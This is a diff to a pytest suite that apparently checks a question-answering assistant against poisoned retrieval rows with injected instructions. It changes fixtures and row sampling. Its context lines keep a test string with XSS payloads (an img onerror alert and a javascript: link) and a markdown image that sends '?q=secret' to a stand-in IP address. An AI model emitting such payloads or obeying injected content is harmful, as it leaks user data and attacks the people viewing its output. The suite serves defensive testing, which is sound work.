@@ -20,7 +20,7 @@ from qa import Assistant
 from qa.models import Answer
 
 ROWS = [row for row in load_gold(POISONED.parent / "gold.jsonl") if row.injected]
-FEW = ROWS[::12]
+SOME, FEW = ROWS[::3], ROWS[::16]
 LIVELY = (
     "See [the source](http://198.51.100.7/x) [1] and ![](http://198.51.100.7/p.png?q=secret) [1]. "
     "<img src=http://198.51.100.7/i.gif onerror=alert(1)> <a href='javascript:alert(2)'>Click here</a> [2]."
@@ -126,8 +126,16 @@ def model() -> Obedient:
 
 
 @pytest.fixture(scope="module", params=["yes", "no"], ids=["writes sentences", "picks the short answer"])
-def assistant(poisoned_settings: Settings, model: Obedient, request: pytest.FixtureRequest) -> Iterator[Assistant]:
-    with Assistant(replace(poisoned_settings, llm_writes=request.param), llm=model) as opened:
+def assistant(
+    poisoned_settings: Settings,
+    model: Obedient,
+    request: pytest.FixtureRequest,
+    tmp_path_factory: pytest.TempPathFactory,
+) -> Iterator[Assistant]:
+    models = str(tmp_path_factory.mktemp("models"))  # what the probe finds is kept here
+    model.obey(lambda prompt: "")
+    with Assistant(replace(poisoned_settings, llm_writes=request.param, models=models), llm=model) as opened:
+        opened.warm()
         yield opened
 
 
@@ -180,7 +188,7 @@ def all_broken(found: Iterator[tuple[Gold, Answer]], assistant: Assistant) -> li
 
 @pytest.mark.parametrize("reply", EVERYWHERE.values(), ids=EVERYWHERE)
 def test_what_the_poison_wants_is_not_said(assistant: Assistant, model: Obedient, reply: Reply) -> None:
-    assert all_broken(answers(assistant, model, reply, ROWS), assistant) == []
+    assert all_broken(answers(assistant, model, reply, SOME), assistant) == []
 
 
 @pytest.mark.parametrize("reply", SOMEWHERE.values(), ids=SOMEWHERE)
